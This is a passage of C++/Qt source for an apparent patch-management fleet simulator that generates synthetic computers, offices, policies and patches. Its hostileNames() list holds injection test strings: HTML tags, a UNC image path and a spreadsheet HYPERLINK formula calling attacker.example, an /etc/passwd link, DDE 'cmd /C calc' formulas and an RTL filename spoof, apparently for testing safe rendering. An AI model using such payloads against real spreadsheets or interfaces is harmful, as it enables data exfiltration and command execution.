#include "FleetGenerator.h"

#include "SeedHash.h"
#include "SimClock.h"

#include <QDate>
#include <QDateTime>
#include <QSet>
#include <QTimeZone>

#include <algorithm>

namespace pmp::sim {

namespace {

// OS families decide which OS patches apply (Patch::familyMask bits).
enum Family
{
    Win11,
    Win10,
    Srv2022,
    Srv2019,
    Srv2016,
    Srv2012R2,
    Mac15,
    Mac14,
    Mac13,
    Ubuntu24,
    Ubuntu22,
    Rhel9,
    Rhel8,
    Debian12
};

constexpr quint32 bit(int family)
{
    return 1u << family;
}
constexpr quint32 Workstations = bit(Win11) | bit(Win10);
constexpr quint32 ModernServers = bit(Srv2022) | bit(Srv2019) | bit(Srv2016);

// Hardware models; the index is Computer::model (FleetState::macAddress uses the same order for OUIs).
enum Model
{
    HpElitebook,
    DellLatitude,
    LenovoThinkpad,
    AppleMacbook,
    VmwareVm,
    HyperVVm,
    HpProliant
};

constexpr qint64 HourMs = 3600LL * 1000;
constexpr qint64 DayMs = SimClock::DayMs;
constexpr qint64 R = SimClock::ReferenceMs;

qint64 msOf(const QDate &date, int hour = 17)
{
    return QDateTime(date, QTime(hour, 0), QTimeZone::utc()).toMSecsSinceEpoch();
}

// Second Tuesday of the month: Microsoft's release day.
QDate patchTuesday(const QDate &monthStart)
{
    QDate d = monthStart;
    while (d.dayOfWeek() != Qt::Tuesday)
        d = d.addDays(1);
    return d.addDays(7);
}

struct Draft
{
    QString series; // versions of one product supersede each other
    QString name, description, vendor, kb = QStringLiteral("--"), sqNumber, bulletin;
    int platform = 1;
    UpdateType type = UpdateType::Security;
    int severity = 0;
    qint64 size = 0;
    qint64 releasedMs = 0;
    int reboot = 0;
    bool uninstallable = false;
    QString title;
    quint32 families = 0;
    int cves = 0;
};

QString monthTag(const QDate &d)
{
    return d.toString(QStringLiteral("yyyy-MM"));
}

QString bulletinMonth(const QDate &d)
{
    static const char *names[] = {"JAN", "FEB", "MAR", "APR", "MAY", "JUN",
                                  "JUL", "AUG", "SEP", "OCT", "NOV", "DEC"};
    return QStringLiteral("MS%1-%2")
        .arg(d.year() % 100, 2, 10, QLatin1Char('0'))
        .arg(QLatin1String(names[d.month() - 1]));
}

const QStringList firstNames{
    QStringLiteral("Aarav"),  QStringLiteral("Priya"),  QStringLiteral("Liam"),    QStringLiteral("Olivia"),
    QStringLiteral("Noah"),   QStringLiteral("Emma"),   QStringLiteral("Wei"),     QStringLiteral("Mei"),
    QStringLiteral("Lukas"),  QStringLiteral("Sofia"),  QStringLiteral("Mateo"),   QStringLiteral("Isabella"),
    QStringLiteral("Arjun"),  QStringLiteral("Ananya"), QStringLiteral("Kenji"),   QStringLiteral("Yuki"),
    QStringLiteral("Omar"),   QStringLiteral("Fatima"), QStringLiteral("Ethan"),   QStringLiteral("Ava"),
    QStringLiteral("Lucas"),  QStringLiteral("Mia"),    QStringLiteral("Hiroshi"), QStringLiteral("Chloe"),
    QStringLiteral("Daniel"), QStringLiteral("Grace"),  QStringLiteral("Rahul"),   QStringLiteral("Divya"),
    QStringLiteral("Jonas"),  QStringLiteral("Lena"),   QStringLiteral("Carlos"),  QStringLiteral("Elena"),
    QStringLiteral("Samuel"), QStringLiteral("Zoe"),    QStringLiteral("Ravi"),    QStringLiteral("Kavya"),
    QStringLiteral("Thomas"), QStringLiteral("Anna"),   QStringLiteral("Felix"),   QStringLiteral("Nora")};
const QStringList lastNames{QStringLiteral("Shah"),     QStringLiteral("Kumar"),   QStringLiteral("Smith"),
                            QStringLiteral("Johnson"),  QStringLiteral("Chen"),    QStringLiteral("Wang"),
                            QStringLiteral("Mueller"),  QStringLiteral("Garcia"),  QStringLiteral("Rossi"),
                            QStringLiteral("Tanaka"),   QStringLiteral("Sato"),    QStringLiteral("Khan"),
                            QStringLiteral("Ali"),      QStringLiteral("Brown"),   QStringLiteral("Davis"),
                            QStringLiteral("Martin"),   QStringLiteral("Dubois"),  QStringLiteral("Nair"),
                            QStringLiteral("Iyer"),     QStringLiteral("Schmidt"), QStringLiteral("Fischer"),
                            QStringLiteral("Lopez"),    QStringLiteral("Silva"),   QStringLiteral("Kim"),
                            QStringLiteral("Park"),     QStringLiteral("Nguyen"),  QStringLiteral("Okafor"),
                            QStringLiteral("Mensah"),   QStringLiteral("Wilson"),  QStringLiteral("Taylor"),
                            QStringLiteral("Anderson"), QStringLiteral("Moore"),   QStringLiteral("Jackson"),
                            QStringLiteral("White"),    QStringLiteral("Harris"),  QStringLiteral("Clark"),
                            QStringLiteral("Lewis"),    QStringLiteral("Walker"),  QStringLiteral("Reddy"),
                            QStringLiteral("Haddad")};

} // namespace

FleetGenerator::FleetGenerator(FleetState &fleet) : m_fleet(fleet), m_rng(fleet.seed()) {}

void FleetGenerator::generate(FleetState &fleet, int computers, int patches, bool hostileNames)
{
    FleetGenerator g(fleet);
    g.makeCatalogues();
    g.makeOffices();
    g.makeGroups();
    g.makePolicies();
    g.makeComputers(std::max(0, computers));
    g.makePatches(std::max(0, patches));
    g.makeConfigurations();
    g.makeApdTasks();
    if (hostileNames)
        g.giveHostileNames();
    fleet.finishGeneration();
}

QStringList FleetGenerator::hostileNames()
{
    return {
        QStringLiteral("<b>x</b>bold"),
        QStringLiteral("<img src=/dev/zero>zero"),
        QStringLiteral("<img src=\"\\\\attacker.example\\share\\x.png\">unc"),
        QStringLiteral("<a href=\"file:///etc/passwd\">link</a>"),
        QStringLiteral("=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"),
        QStringLiteral("+cmd|' /C calc'!A0"),
        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
        QStringLiteral("<long>") + QString(9994, QLatin1Char('W')),
        QStringLiteral("\u202Eexe.tnemucod\u202C-rtl"),
        QStringLiteral("\u0645\u062E\u062F\u0645-\u0627\u0644\u0645\u062D\u0627\u0633\u0628\u0629 &amp; <i>"),
        QStringLiteral("tab\tand\rcr\nnewline"),
    };
}

// Renames a spread of things after generation (ids and relations unchanged): every seventh computer,
// every fifth patch's description and every ninth vendor, one office, group, policy, configuration and
// APD task. Names stay unique where the server looks things up by name.
void FleetGenerator::giveHostileNames()
{
    const QStringList names = hostileNames();
    const auto pick = [&names](int i) { return names.at(i % names.size()); };
    for (int c = 3, n = 0; c < m_fleet.m_computers.size(); c += 7, ++n)
        m_fleet.m_computers[c].name = pick(n) + QStringLiteral("-%1").arg(c);
    for (int p = 2, n = 0; p < m_fleet.m_patches.size(); p += 5, ++n) {
        m_fleet.m_patches[p].description = pick(n);
        if (n % 2 == 0)
            m_fleet.m_patches[p].vendor = pick(n + 1);
    }
    if (m_fleet.m_offices.size() > 1)
        m_fleet.m_offices[1].name = pick(0) + QStringLiteral(" office");
    if (m_fleet.m_groups.size() > 1)
        m_fleet.m_groups[1].name = pick(1) + QStringLiteral(" group");
    if (m_fleet.m_policies.size() > 1)
        m_fleet.m_policies[1].name = pick(4) + QStringLiteral(" policy");
    if (!m_fleet.m_configs.isEmpty())
        m_fleet.m_configs[0].name = pick(0) + QStringLiteral(" configuration");
    if (!m_fleet.m_apdTasks.isEmpty())
        m_fleet.m_apdTasks[0].name = pick(3) + QStringLiteral(" task");
    if (m_fleet.m_apdTasks.size() > 1)
        m_fleet.m_apdTasks[1].name = pick(7) + QStringLiteral(" task"); // 10,000 characters
}

void FleetGenerator::makeCatalogues()
{
    FleetState &f = m_fleet;
    f.m_osFamilies = {QStringLiteral("win11"),    QStringLiteral("win10"),    QStringLiteral("srv2022"),
                      QStringLiteral("srv2019"),  QStringLiteral("srv2016"),  QStringLiteral("srv2012r2"),
                      QStringLiteral("mac15"),    QStringLiteral("mac14"),    QStringLiteral("mac13"),
                      QStringLiteral("ubuntu24"), QStringLiteral("ubuntu22"), QStringLiteral("rhel9"),
                      QStringLiteral("rhel8"),    QStringLiteral("debian12")};
    auto os = [](int platform, const char *name, const char *version, const char *sp, int family, bool server,
                 int weight) {
        return OsProfile{platform,
                         QString::fromUtf8(name),
                         QString::fromUtf8(version),
                         QString::fromUtf8(sp),
                         family,
                         server,
                         weight};
    };
    f.m_osProfiles = {
        os(1, "Windows 11 Professional Edition (x64)", "10.0.26100", "Windows 11 Version 24H2 (x64)", Win11,
           false, 30),
        os(1, "Windows 11 Enterprise Edition (x64)", "10.0.22631", "Windows 11 Version 23H2 (x64)", Win11,
           false, 14),
        os(1, "Windows 10 Professional Edition (x64)", "10.0.19045", "Windows 10 Version 22H2 (x64)", Win10,
           false, 16),
        os(1, "Windows 10 Enterprise Edition (x64)", "10.0.19045", "Windows 10 Version 22H2 (x64)", Win10,
           false, 7),
        os(1, "Windows Server 2022 Standard Edition (x64)", "10.0.20348", "Windows Server 2022 (x64)",
           Srv2022, true, 5),
        os(1, "Windows Server 2019 Datacenter Edition (x64)", "10.0.17763", "Windows Server 2019 (x64)",
           Srv2019, true, 4),
        os(1, "Windows Server 2016 Standard Edition (x64)", "10.0.14393", "Windows Server 2016 (x64)",
           Srv2016, true, 2),
        os(1, "Windows Server 2012 R2 Standard Edition (x64)", "6.3.9600",
           "Windows Server 2012 R2 Gold (x64)", Srv2012R2, true, 1),
        os(2, "macOS Sequoia", "15.6.1", "macOS 15.6.1", Mac15, false, 7),
        os(2, "macOS Sonoma", "14.7.8", "macOS 14.7.8", Mac14, false, 3),
        os(2, "macOS Ventura", "13.7.8", "macOS 13.7.8", Mac13, false, 1),
        os(3, "Ubuntu 24.04.3 LTS", "24.04", "Ubuntu 24.04.3 LTS (x64)", Ubuntu24, true, 4),
        os(3, "Ubuntu 22.04.5 LTS", "22.04", "Ubuntu 22.04.5 LTS (x64)", Ubuntu22, true, 3),
        os(3, "Red Hat Enterprise Linux 9.6", "9.6", "Red Hat Enterprise Linux 9.6 (x64)", Rhel9, true, 2),
        os(3, "Red Hat Enterprise Linux 8.10", "8.10", "Red Hat Enterprise Linux 8.10 (x64)", Rhel8, true, 1),
        os(3, "Debian GNU/Linux 12 (bookworm)", "12.12", "Debian 12.12 (x64)", Debian12, true, 1),
    };

    // Installed software whose patches only apply where it is installed (share on workstations, servers).
    auto t = [](const char *key, int platform, double share, double serverShare = -1, bool hardware = false) {
        return SoftwareTitle{QString::fromLatin1(key), platform, share, serverShare, hardware};
    };
    f.m_titles = {
        t("office2016", 1, 0.25, 0.02),
        t("m365apps", 1, 0.55, 0.02),
        t("sqlserver", 1, 0.0, 0.3),
        t("vcredist", 1, 0.9, 0.8),
        t("edge", 1, 1.0, 0.9),
        t("teams", 1, 0.7, 0.05),
        t("chrome", 1, 0.8, 0.15),
        t("firefox", 1, 0.35, 0.05),
        t("firefox-esr", 1, 0.08, 0.02),
        t("acrobat", 1, 0.6, 0.1),
        t("java8", 1, 0.2, 0.25),
        t("7zip", 1, 0.5, 0.4),
        t("notepadpp", 1, 0.3, 0.35),
        t("zoom", 1, 0.45, 0.0),
        t("vlc", 1, 0.3, 0.0),
        t("putty", 1, 0.12, 0.4),
        t("winscp", 1, 0.1, 0.3),
        t("filezilla", 1, 0.08, 0.1),
        t("git", 1, 0.18, 0.1),
        t("python", 1, 0.15, 0.2),
        t("nodejs", 1, 0.1, 0.15),
        t("keepass", 1, 0.1, 0.05),
        t("wireshark", 1, 0.05, 0.1),
        t("teamviewer", 1, 0.1, 0.05),
        t("slack", 1, 0.3, 0.0),
        t("citrix", 1, 0.1, 0.0),
        t("bandizip", 1, 0.05, 0.0),
        t("intel-graphics", 1, 0.45, 0.0),
        t("realtek-audio", 1, 0.5, 0.0),
        t("chrome-mac", 2, 0.85),
        t("firefox-mac", 2, 0.3),
        t("zoom-mac", 2, 0.6),
        t("office-mac", 2, 0.6),
        t("slack-mac", 2, 0.5),
        t("nginx", 3, 0.0, 0.3),
        t("postgresql", 3, 0.0, 0.2),
        t("chrome-linux", 3, 0.0, 0.03),
        t("bios-hp-840g10", 1, 0, 0, true),
        t("bios-dell-5440", 1, 0, 0, true),
        t("bios-lenovo-t14g4", 1, 0, 0, true),
        t("rom-hpe-dl380", 1, 0, 0, true),
    };
    Q_ASSERT(f.m_titles.size() <= 64);
    for (int i = 0; i < f.m_titles.size(); ++i)
        m_titleIndex.insert(f.m_titles.at(i).key, i);

    f.m_domains = {QStringLiteral("ZYLKER"), QStringLiteral("ZYLKERDEV"), QStringLiteral("WORKGROUP"),
                   QStringLiteral("macosgroup"), QStringLiteral("ZYLKERLAB")};
    f.m_domainDns = {QStringLiteral("zylker.com"), QStringLiteral("dev.zylker.com"), QString(), QString(),
                     QStringLiteral("lab.zylker.com")};
    f.m_hardwareModels = {
        QStringLiteral("HP EliteBook 840 G10"),      QStringLiteral("Dell Latitude 5440"),
        QStringLiteral("Lenovo ThinkPad T14 Gen 4"), QStringLiteral("Apple MacBook Pro"),
        QStringLiteral("VMware Virtual Platform"),   QStringLiteral("Microsoft Hyper-V Virtual Machine"),
        QStringLiteral("HPE ProLiant DL380 Gen10")};
    for (const QString &first : firstNames)
        for (const QString &last : lastNames)
            f.m_people.append(first + QLatin1Char(' ') + last);
}

void FleetGenerator::makeOffices()
{
    struct Spec
    {
        int id;
        const char *name, *site;
        int share, octet;
        bool ds, proxy;
        const char *dsName;
        int dsStatus;
        int utcOffset;
    };
    const Spec specs[] = {
        {1, "Local Office", "HQ", 38, 10, false, false, "", 22, -300},
        {301, "London Branch", "LON", 14, 20, true, false, "lon-ds01", 22, 0},
        {302, "Singapore DS", "SGP", 12, 30, true, true, "sgp-ds01", 22, 480},
        {303, "Austin Remote", "AUS", 10, 40, false, true, "", 22, -360},
        {304, "Frankfurt DS", "FRA", 10, 50, true, false, "fra-ds01", 29, 60},
        {305, "Chennai Office", "CHN", 12, 60, true, false, "chn-ds01", 22, 330},
        {306, "Direct Comm", "REM", 4, 70, false, false, "", 22, 0},
    };
    qint64 dsResource = 201;
    for (const Spec &s : specs) {
        RemoteOffice o;
        o.id = s.id;
        o.name = QString::fromLatin1(s.name);
        o.site = QString::fromLatin1(s.site);
        o.description = s.id == 1 ? QStringLiteral("--") : QStringLiteral("%1 site").arg(o.name);
        o.ipSecondOctet = s.octet;
        o.computerShare = s.share;
        o.utcOffsetMinutes = s.utcOffset;
        o.hasDistributionServer = s.ds;
        o.isProxy = s.proxy;
        o.isHttps = true;
        o.compression = m_rng.chance(0.7) ? 1 : 0;
        o.colorQuality = QList<int>{24, 16, 8, 4}.at(m_rng.weighted({2, 5, 2, 1}));
        o.policyId = s.ds ? 1 + m_rng.bounded(2) : 1;
        o.policyName = QStringLiteral("Policy_%1").arg(o.policyId);
        o.updatedMs = R - qint64(m_rng.between(20, 400)) * DayMs - qint64(m_rng.bounded(86400)) * 1000;
        if (s.ds) {
            o.dsResourceId = dsResource++;
            o.dsName = QString::fromLatin1(s.dsName);
            o.dsDnsName = o.dsName + QStringLiteral(".zylker.com");
            o.dsIp =
                QStringLiteral("10.%1.0.2").arg(s.octet); // computers start at .4 (FleetState::ipAddress)
            o.dsVersion = QStringLiteral("11.4.2522.01");
            o.dsStatus = s.dsStatus;
            o.dsSyncStatus = s.dsStatus == 22 ? 1 : 2;
            o.lastContactMs = s.dsStatus == 22 ? R - qint64(m_rng.between(1, 40)) * 60 * 1000 : -1;
        } else {
            o.dsName = o.dsDnsName = o.dsIp = o.dsVersion = QStringLiteral("--");
            o.dsStatus = 21;
            o.dsSyncStatus = 0;
        }
        if (s.proxy) {
            o.proxyServer = QStringLiteral("proxy.%1.zylker.com").arg(o.site.toLower());
            o.proxyPort = 3128;
            o.proxyUser = QStringLiteral("svc-proxy");
        } else {
            o.proxyServer = o.proxyUser = QStringLiteral("--");
            o.proxyPort = 0;
        }
        if (s.dsStatus == 29) {
            o.errorCode = 60006;
            o.remarks = QStringLiteral("[i18n]dc.som.agentinstall.remarks.unknown_credential[/i18n]");
            o.errorKbUrl = QStringLiteral("$(dcUrl)/agent_installation_logon_failure.html?");
        } else {
            o.errorCode = 0;
            o.remarks = s.ds ? QStringLiteral("dc.som.ds.install.success") : QStringLiteral("--");
            o.errorKbUrl = QStringLiteral("--");
        }
        m_fleet.m_offices.append(o);
    }
}

void FleetGenerator::makeGroups()
{
    struct Spec
    {
        qint64 id;
        const char *name;
        CustomGroup::Kind kind;
        const char *category;
    };
    using K = CustomGroup::Kind;
    const Spec specs[] = {
        {301, "All Computers Group", K::AllComputers, "CRITERIA_GROUP"},
        {302, "All Users Group", K::AllUsers, "CRITERIA_GROUP"},
        {501, "Finance Workstations", K::Computers, "STATIC_GROUP"},
        {502, "Engineering Laptops", K::Computers, "STATIC_GROUP"},
        {503, "Production Servers", K::Computers, "STATIC_GROUP"},
        {504, "Domain Controllers", K::Computers, "STATIC_GROUP"},
        {505, "Pilot Ring", K::Computers, "STATIC_GROUP"},
        {506, "Executives", K::Computers, "STATIC_GROUP"},
        {507, "Mac Fleet", K::Computers, "CRITERIA_GROUP"},
        {508, "Linux Servers", K::Computers, "CRITERIA_GROUP"},
        {509, "Inactive_Computers_ZYLKER", K::Computers, "CRITERIA_GROUP"},
        {510, "Kiosk PCs", K::Computers, "STATIC_GROUP"},
        {511, "Inactive_Users_ZYLKER", K::Users, "CRITERIA_GROUP"},
        {512, "Helpdesk Staff", K::Users, "STATIC_GROUP"},
    };
    int nextBit = 0;
    for (const Spec &s : specs) {
        CustomGroup g;
        g.id = s.id;
        g.name = QString::fromLatin1(s.name);
        g.kind = s.kind;
        g.category = QString::fromLatin1(s.category);
        g.resourceType =
            (s.kind == K::AllUsers || s.kind == K::Users) ? QStringLiteral("102") : QStringLiteral("101");
        g.createdMs = R - qint64(m_rng.between(60, 900)) * DayMs - qint64(m_rng.bounded(86400000));
        if (s.kind == K::Computers) {
            g.bit = nextBit++;
            m_groupBit.insert(g.name, g.bit);
        }
        m_fleet.m_groups.append(g);
    }
}

void FleetGenerator::makePolicies()
{
    // The two names the guide's APD samples use, plus what an admin team typically builds.
    const char *names[] = {"Deploy any time at the earliest",
                           "Force reboot excluding servers",
                           "Deploy during business hours",
                           "Weekend maintenance window",
                           "Servers - Sunday 02:00",
                           "Pilot ring - immediate",
                           "Workstations - after hours",
                           "Critical updates - 24h deadline",
                           "No reboot (servers)",
                           "Laptops - on wake",
                           "Patch Tuesday + 7 days",
                           "Emergency zero-day"};
    qint64 custom = 8101;
    int i = 0;
    for (const char *name : names) {
        DeploymentPolicy p;
        // Built-in templates have small ids (the guide's samples send DeploymentPolicyTemplateID 1).
        p.templateId = i < 3 ? i + 1 : custom;
        if (i >= 3)
            custom += 1 + m_rng.bounded(4);
        p.name = QString::fromLatin1(name);
        p.owner = i < 3 ? QStringLiteral("DC-SYSTEM-USER") : QStringLiteral("admin");
        p.createdMs = R - qint64(m_rng.between(30, 1000)) * DayMs - qint64(m_rng.bounded(86400000));
        p.modifiedMs = p.createdMs + (m_rng.chance(0.5) ? qint64(m_rng.between(1, 20)) * DayMs : 0);
        p.isDefault = i == 0;
        m_fleet.m_policies.append(p);
        ++i;
    }
}

void FleetGenerator::makeComputers(int count)
{
    FleetState &f = m_fleet;
    QList<int> osWeights, officeWeights;
    for (const OsProfile &os : f.m_osProfiles)
        osWeights << os.weight;
    for (const RemoteOffice &o : f.m_offices)
        officeWeights << o.computerShare;

    const QStringList depts{QStringLiteral("FIN"), QStringLiteral("ENG"), QStringLiteral("HR"),
                            QStringLiteral("SAL"), QStringLiteral("MKT"), QStringLiteral("OPS"),
                            QStringLiteral("EXE"), QStringLiteral("IT"),  QStringLiteral("SUP"),
                            QStringLiteral("LEG")};
    const QList<int> deptWeights{8, 22, 5, 14, 7, 12, 2, 8, 18, 4};
    const QStringList winRoles{QStringLiteral("DC"),  QStringLiteral("FS"),  QStringLiteral("SQL"),
                               QStringLiteral("WEB"), QStringLiteral("APP"), QStringLiteral("EXCH"),
                               QStringLiteral("PRN"), QStringLiteral("BKP")};
    const QStringList linuxRoles{QStringLiteral("web"),       QStringLiteral("db"),
                                 QStringLiteral("app"),       QStringLiteral("k8s-node"),
                                 QStringLiteral("ci-runner"), QStringLiteral("mon"),
                                 QStringLiteral("cache"),     QStringLiteral("mq")};
    const QStringList envs{QStringLiteral("prod"), QStringLiteral("stg"), QStringLiteral("dev")};
    const QStringList macKinds{QStringLiteral("MacBook-Pro"), QStringLiteral("MacBook-Air"),
                               QStringLiteral("iMac")};

    QHash<QString, int> counters;
    QSet<QString> used;
    auto unique = [&](const QString &base) {
        QString name = base;
        for (int n = 2; used.contains(name.toLower()); ++n)
            name = base + QStringLiteral("-%1").arg(n);
        used.insert(name.toLower());
        return name;
    };
    auto next = [&](const QString &prefix) { return ++counters[prefix]; };

    f.m_computers.reserve(count);
    for (int i = 0; i < count; ++i) {
        Computer c;
        c.id = 1001 + i;
        c.os = m_rng.weighted(osWeights);
        const OsProfile &os = f.m_osProfiles.at(c.os);
        c.office = m_rng.weighted(officeWeights);
        const RemoteOffice &office = f.m_offices.at(c.office);
        c.user = m_rng.bounded(int(f.m_people.size()));
        QString dept, role, env;
        bool laptop = false;

        if (os.platform == 1 && !os.server) {
            dept = depts.at(m_rng.weighted(deptWeights));
            laptop = m_rng.chance(0.35);
            const QString prefix = laptop ? QString(office.site + QStringLiteral("-LT"))
                                          : QString(office.site + QLatin1Char('-') + dept);
            c.name = unique(
                laptop ? QStringLiteral("%1-%2").arg(prefix).arg(next(prefix), 4, 10, QLatin1Char('0'))
                       : QStringLiteral("%1%2").arg(prefix).arg(next(prefix), 3, 10, QLatin1Char('0')));
            c.model = QList<int>{HpElitebook, DellLatitude, LenovoThinkpad}.at(m_rng.weighted({4, 4, 3}));
            c.domain = dept == QLatin1String("ENG") && m_rng.chance(0.4) ? 1 : (m_rng.chance(0.04) ? 2 : 0);
        } else if (os.platform == 1) {
            role = winRoles.at(m_rng.weighted({2, 3, 3, 3, 4, 1, 1, 1}));
            const QString prefix = office.site + QLatin1Char('-') + role;
            c.name = unique(QStringLiteral("%1%2").arg(prefix).arg(next(prefix), 2, 10, QLatin1Char('0')));
            c.model = QList<int>{VmwareVm, HyperVVm, HpProliant}.at(m_rng.weighted({5, 2, 3}));
            c.domain = 0;
        } else if (os.platform == 2) {
            const QStringList person = f.m_people.at(c.user).split(QLatin1Char(' '));
            c.name =
                unique(QStringLiteral("%1-%2s-%3")
                           .arg(person.at(0), person.at(1).left(1), macKinds.at(m_rng.weighted({6, 3, 1}))));
            c.model = AppleMacbook;
            c.domain = 3;
            dept = depts.at(m_rng.weighted(deptWeights));
        } else {
            role = linuxRoles.at(m_rng.bounded(int(linuxRoles.size())));
            env = envs.at(m_rng.weighted({5, 2, 2}));
            const QString prefix = role + QLatin1Char('-') + env;
            c.name = unique(QStringLiteral("%1-%2").arg(prefix).arg(next(prefix), 2, 10, QLatin1Char('0')));
            c.model = QList<int>{VmwareVm, HpProliant}.at(m_rng.weighted({7, 3}));
            c.domain = m_rng.chance(0.6) ? 4 : 2;
        }

        // Installed software: shares differ between servers and workstations; firmware follows the model.
        for (int t = 0; t < f.m_titles.size(); ++t) {
            const SoftwareTitle &title = f.m_titles.at(t);
            if (title.platform != os.platform)
                continue;
            bool present = false;
            if (title.hardware) {
                static const QHash<QString, int> firmwareModel{
                    {QStringLiteral("bios-hp-840g10"), HpElitebook},
                    {QStringLiteral("bios-dell-5440"), DellLatitude},
                    {QStringLiteral("bios-lenovo-t14g4"), LenovoThinkpad},
                    {QStringLiteral("rom-hpe-dl380"), HpProliant}};
                present = firmwareModel.value(title.key, -1) == c.model;
            } else {
                const double share = os.server && title.serverShare >= 0 ? title.serverShare : title.share;
                present = m_rng.chance(share);
            }
            if (present)
                c.titles |= quint64(1) << t;
        }

        // Patch hygiene: well-run machines, ordinary ones, and a neglected tail.
        c.hygiene = QList<double>{0.004, 0.05, 0.22}.at(m_rng.weighted({40, 45, 15}));

        // Agent life cycle.
        c.installationStatus = QList<int>{22, 21, 29, 23, 24, 31}.at(m_rng.weighted({900, 35, 15, 20, 5, 5}));
        c.agentVersion = m_rng.weighted({60, 25, 10, 5});
        c.agentInstalledMs = R - qint64(m_rng.between(20, 900)) * DayMs - qint64(m_rng.bounded(86400000));
        c.agentExecutedMs = c.agentInstalledMs - qint64(m_rng.between(1, 30)) * 60 * 1000;
        if (c.agentVersion > 0)
            c.agentUpgradedMs = -1;
        else if (m_rng.chance(0.6))
            c.agentUpgradedMs = R - qint64(m_rng.between(2, 40)) * DayMs;
        const bool everInstalled = c.installationStatus != 21 && c.installationStatus != 29;
        if (everInstalled) {
            // Last contact spread over the E34 buckets.
            const int bucket = m_rng.weighted({78, 8, 6, 4, 4});
            const int lo[] = {0, 3, 7, 15, 30};
            const int hi[] = {3, 7, 15, 30, 120};
            qint64 ago =
                qint64(lo[bucket]) * DayMs + qint64(m_rng.real() * double((hi[bucket] - lo[bucket]) * DayMs));
            if (bucket == 0 && m_rng.chance(0.8))
                ago = qint64(m_rng.real() * 2.0 * double(HourMs)); // agents report every 90 minutes
            c.lastContactMs = R - std::max<qint64>(ago, 60 * 1000);
            if (c.installationStatus == 23) {
                c.agentUninstalledMs = c.lastContactMs + qint64(m_rng.between(1, 48)) * HourMs;
                c.previousInstallationStatus = 22;
            }
            c.lastBootMs =
                c.lastContactMs - qint64(m_rng.real() * double(os.server ? 40 : 6) * double(DayMs));
            c.liveStatus = (c.installationStatus != 23 && R - c.lastContactMs < DayMs) ? 1 : 2;
            if (m_rng.chance(0.02))
                c.liveStatus = 3;
            c.scanStatus = QList<int>{228, 226, 227, 229}.at(m_rng.weighted({86, 7, 2, 5}));
            if (c.scanStatus != 229) {
                c.lastScanMs = c.lastContactMs - qint64(m_rng.bounded(6 * 3600)) * 1000;
                c.lastSuccessfulScanMs =
                    c.scanStatus == 228 ? c.lastScanMs : c.lastScanMs - qint64(m_rng.between(1, 9)) * DayMs;
                c.lastSyncMs = c.lastScanMs + qint64(m_rng.between(20, 600)) * 1000;
                c.lastPatchedMs = c.lastSuccessfulScanMs - qint64(m_rng.real() * 12.0 * double(DayMs));
            }
            c.statusUpdateMs = c.lastContactMs - qint64(m_rng.bounded(3600)) * 1000;
            c.managedStatus = R - c.lastContactMs > 30 * DayMs ? 68 : 61;
        } else {
            c.lastContactMs = -1;
            c.lastBootMs = -1;
            c.liveStatus = 3;
            c.scanStatus = 229;
            c.agentInstalledMs = -1;
            c.agentExecutedMs = c.installationStatus == 29 ? R - qint64(m_rng.between(1, 60)) * DayMs : -1;
            c.statusUpdateMs = R - qint64(m_rng.between(1, 90)) * DayMs;
            c.managedStatus = 61;
        }
        c.baselineScanMs = c.lastSuccessfulScanMs;

        // Custom groups.
        auto join = [&](const char *group) {
            c.groups |= quint64(1) << m_groupBit.value(QString::fromLatin1(group));
        };
        if (dept == QLatin1String("FIN") && os.platform == 1)
            join("Finance Workstations");
        if (dept == QLatin1String("ENG") && laptop)
            join("Engineering Laptops");
        if (dept == QLatin1String("EXE"))
            join("Executives");
        if ((os.platform == 1 && os.server) || env == QLatin1String("prod"))
            join("Production Servers");
        if (role == QLatin1String("DC"))
            join("Domain Controllers");
        if (m_rng.chance(0.05))
            join("Pilot Ring");
        if (os.platform == 2)
            join("Mac Fleet");
        if (os.platform == 3)
            join("Linux Servers");
        if (everInstalled && R - c.lastContactMs > 30 * DayMs)
            join("Inactive_Computers_ZYLKER");
        if (dept == QLatin1String("SUP") && !laptop && m_rng.chance(0.08))
            join("Kiosk PCs");

        f.m_computers.append(c);
    }
}

void FleetGenerator::makePatches(int count)
{
    QList<Draft> drafts;
    QSet<QString> kbs;
    int kbSeed = 5068100;
    auto kb = [&]() {
        // Microsoft KB numbers grow over time; months are generated newest first.
        QString k;
        do {
            kbSeed -= 1 + m_rng.bounded(40);
            k = QString::number(kbSeed);
        } while (kbs.contains(k));
        kbs.insert(k);
        return k;
    };
    auto bytes = [&](int loMb, int hiMb) {
        return qint64(m_rng.between(loMb * 1024, hiMb * 1024)) * 1024 + m_rng.bounded(1024);
    };

    const QDate newestMonth(2026, 10, 1);
    for (int m = 0; drafts.size() < count && m < 2400; ++m) {
        const QDate month = newestMonth.addMonths(-m);
        const QDate tuesday = patchTuesday(month);
        const qint64 pt = msOf(tuesday);
        const QString tag = monthTag(month);
        const QString msb = bulletinMonth(month);
        int msSeq = 0;
        auto day = [&](int lo, int hi) {
            return msOf(month.addDays(m_rng.between(lo, hi)), m_rng.between(6, 20));
        };
        auto add = [&](Draft d) {
            if (d.bulletin.isEmpty())
                d.bulletin = msb + QString::number(++msSeq);
            drafts.append(d);
        };

        // Microsoft: cumulative updates per OS family on Patch Tuesday.
        struct Cu
        {
            int family;
            const char *text;
            const char *file;
        };
        const Cu cus[] = {
            {Win11, "Cumulative Update for Windows 11 Version 24H2 for x64-based Systems",
             "windows11.0-kb%1-x64.msu"},
            {Win10, "Cumulative Update for Windows 10 Version 22H2 for x64-based Systems",
             "windows10.0-kb%1-x64.msu"},
            {Srv2022,
             "Cumulative Update for Microsoft server operating system version 21H2 for x64-based Systems",
             "windows10.0-kb%1-x64.msu"},
            {Srv2019, "Cumulative Update for Windows Server 2019 for x64-based Systems",
             "windows10.0-kb%1-x64.msu"},
            {Srv2016, "Cumulative Update for Windows Server 2016 for x64-based Systems",
             "windows10.0-kb%1-x64.msu"},
            {Srv2012R2, "Security Monthly Quality Rollup for Windows Server 2012 R2 for x64-based Systems",
             "windows8.1-kb%1-x64.msu"},
        };
        for (const Cu &cu : cus) {
            Draft d;
            d.series = QStringLiteral("cu-%1").arg(cu.family);
            d.kb = kb();
            d.description = QStringLiteral("%1 %2 (KB%3)").arg(tag, QString::fromLatin1(cu.text), d.kb);
            d.name = QString::fromLatin1(cu.file).arg(d.kb);
            d.vendor = QStringLiteral("Microsoft");
            d.type = cu.family == Srv2012R2 ? UpdateType::Rollup : UpdateType::Security;
            d.severity = m_rng.chance(0.85) ? 4 : 3;
